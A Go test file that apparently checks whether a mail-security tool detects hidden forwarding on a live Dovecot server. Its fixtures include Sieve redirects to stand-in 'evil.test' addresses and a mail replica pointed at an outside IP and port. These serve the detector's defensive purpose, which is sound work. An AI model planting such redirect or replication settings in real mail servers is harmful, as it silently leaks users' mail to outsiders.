package dovecot_test

import (
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"testing"
	"time"

	"relayguard/forward/dovecot"
)

const masterConf = `base_dir = %[1]s/run
state_dir = %[1]s/run
log_path = %[1]s/log
protocols =
first_valid_uid = 1
first_valid_gid = 1
ssl = no
mail_location = maildir:~/Maildir
service anvil {
  unix_listener anvil-auth-penalty {
    mode = 0
  }
}
protocol lmtp {
  mail_plugins = sieve
}
passdb {
  driver = static
  args = nopassword=y
}
userdb {
  driver = dict
  args = %[1]s/dict.conf
  override_fields = sieve_after=%[1]s/after.sieve
}
`

const dictConf = `uri = file:%[1]s/dict
iterate_prefix = userdb/
key userdb {
  key = userdb/%%u
  format = json
}
userdb_objects = userdb
`

// TestRealDovecotTellsOfUsers asks a running Dovecot, whose users are in a
// database that only it can read.
func TestRealDovecotTellsOfUsers(t *testing.T) {
	needDovecot(t)
	dir := t.TempDir()
	plant(t, dir, map[string]string{
		"dovecot.conf": fmt.Sprintf(masterConf, dir), "dict.conf": fmt.Sprintf(dictConf, dir),
		"dict": fmt.Sprintf("shared/userdb/alice@corp.test\n{\"uid\":\"8\",\"gid\":\"8\",\"home\":\"%[1]s/hidden\"}\n"+
			"shared/userdb/bob@corp.test\n{\"uid\":\"8\",\"gid\":\"8\",\"home\":\"%[1]s/bob\",\"sieve\":\"%[1]s/x.sieve\",\"mail_replica\":\"tcp:203.0.113.9:12345\"}\n", dir),
		"hidden/.dovecot.sieve": `redirect "hidden@evil.test";`,
		"x.sieve":               `redirect "x@evil.test";`,
		"after.sieve":           `redirect "after@evil.test";`,
		"run/.keep":             "",
	})
	openUp(t, dir)
	conf := filepath.Join(dir, "dovecot.conf")
	cmd := exec.Command("dovecot", "-F", "-c", conf)
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		_ = cmd.Process.Signal(os.Interrupt)
		_ = cmd.Wait()
	})
	ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
	defer cancel()
	for tick := time.NewTicker(20 * time.Millisecond); ; {
		if exec.CommandContext(ctx, "doveadm", "-c", conf, "user", "alice@corp.test").Run() == nil {
			break
		}
		select {
		case <-ctx.Done():
			log, _ := os.ReadFile(filepath.Join(dir, "log"))
			t.Fatalf("Dovecot does not answer: %s", log)
		case <-tick.C:
		}
	}
	p := dovecot.Plan(t.Context(), liveHost(nil), dovecot.Options{ConfigDir: dir})
	compare(t, lines(t.Context(), p), []string{
		"* sieve address redirect after@evil.test server",
		"alice@corp.test sieve address redirect hidden@evil.test",
		"bob@corp.test sieve address redirect x@evil.test server",
		"bob@corp.test setting nexthop copy tcp:203.0.113.9:12345 server",
	})
}
